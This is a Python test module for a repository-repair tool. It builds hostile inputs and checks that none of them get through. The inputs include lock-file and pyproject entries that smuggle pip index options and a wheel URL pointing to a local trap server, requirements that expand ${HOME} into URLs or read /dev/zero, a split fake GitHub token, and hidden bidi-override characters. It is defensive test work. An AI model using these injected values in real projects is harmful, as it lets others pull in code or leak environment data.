"""What a repository, its tests or a model put in, and what must not come out."""

from __future__ import annotations

import json
import socket

from benchmarks._harm import Case
from benchmarks._harm_shipped import BROKEN, FILES, HIDDEN, TESTS
from heal_bot.core import bundle
from heal_bot.core.outcome import OutcomeRecord

# Listens and never answers: that anyone came is all that counts.
_TRAP = socket.create_server(("127.0.0.1", 0))
_TRAP.setblocking(False)
_PLACE = f"http://127.0.0.1:{_TRAP.getsockname()[1]}"
_ADDED = f"x\n-r {_PLACE}/list\n-i {_PLACE}/simple\n--extra-index-url {_PLACE}/more"
_LINES = f"""version = 1

[[package]]
name = {json.dumps(_ADDED)}
version = "1.0"
source = {{ registry = "https://pypi.org/simple" }}

[[package]]
name = "evil @ {_PLACE}/${{UV_DEFAULT_INDEX}}/evil-1.0-py3-none-any.whl"
version = "1.0"
"""
_PROJECT = "[project]\nname = {}\nversion = '1'\ndependencies = {}\n"
_ODD = (
    "a ; python_version ~= 'x'",
    f"b ; {'(' * 3_000}",
    f"c>={'9' * 5_000}",
    "d===${HOME}",
    "e\n-r /dev/zero",
    f"f @ {_PLACE}/${{HOME}}/f.whl",
)
_KEY = "ghp_" + "Ab1" * 12
_SAYING = TESTS.replace(
    "    assert clamp(value, 0, 10) == expected",
    f"    said = '{_KEY[:20]}' + chr(0x200b) + '{_KEY[20:]}'\n"
    "    assert clamp(value, 0, 10) == expected, said",
)
_MARKED = BROKEN.replace("import pytest", "").replace(
    "    if value < low:", "    sign = 'a\u200bb\u202ec'\n    if value < low and sign:"
)
_RIGHT = """def clamp(value, low, high):
    if value < low:
        return low
    if value > high{}:
        return high
    return value
"""


def _nobody_came(_: OutcomeRecord) -> str:
    try:
        return f"{_TRAP.accept()[1]} was sent to the trap"
    except BlockingIOError:
        return ""


def _kept(outcome: OutcomeRecord) -> str:
    """Nothing where the patched file has what the old one had, and no key is in the bundle."""
    if any(mark not in outcome.patch.files[0].content for mark in "\u200b\u202e"):
        return "the patch dropped what nobody sees"
    return ""


def _without_key(outcome: OutcomeRecord) -> str:
    bare = bundle.dump(outcome).replace("<U+200B>", "").replace("\u200b", "")
    return "the key is in the bundle" if _KEY in bare or _KEY[20:] in bare else ""


def _hiding(prompt: str) -> str:
    code = _RIGHT.format(" and '\u202edne'")
    return f"Plain.\n\n```python\n{code}```\n"


CASES = (
    Case(
        "doors: lines and variables in a lock file",
        {**FILES, "uv.lock": _LINES},
        "healed",
        says=("uv.lock: 2 entries whose name or version is none left out",),
        fault=_nobody_came,
        hidden=HIDDEN,
    ),
    Case(
        "doors: odd requirements of a project with an odd name",
        {**FILES, "pyproject.toml": _PROJECT.format(json.dumps("no\nname"), json.dumps(_ODD))},
        "healed",
        says=("is no name with a version",),
        fault=_nobody_came,
        hidden=HIDDEN,
    ),
    Case(
        "doors: a key in pieces in what a test says",
        {"bands.py": BROKEN, "test_bands.py": _SAYING},
        "healed",
        says=("***",),
        never=(_KEY, _KEY[20:]),
        fault=_without_key,
        hidden=HIDDEN,
    ),
    Case(
        "doors: what nobody sees in the old source",
        {"bands.py": _MARKED, "test_bands.py": TESTS},
        "healed",
        says=("<U+200B>", "<U+202E>"),
        never=("\u200b", "\u202e"),
        fault=_kept,
        hidden=HIDDEN,
    ),
    Case(
        "doors: what nobody sees in an answer",
        FILES,
        "not_healed",
        says=("<U+202E>",),
        never=("\u202e",),
        inputs={"proposers": "openai", "max-attempts": "2"},
        answer=_hiding,
    ),
    Case(
        "doors: a tree too deep to be written",
        {**FILES, f"{'d/' * 450}x.txt": "x\n"},
        "environment_error",
        says=("holds paths of up to 450 folders",),
    ),
)
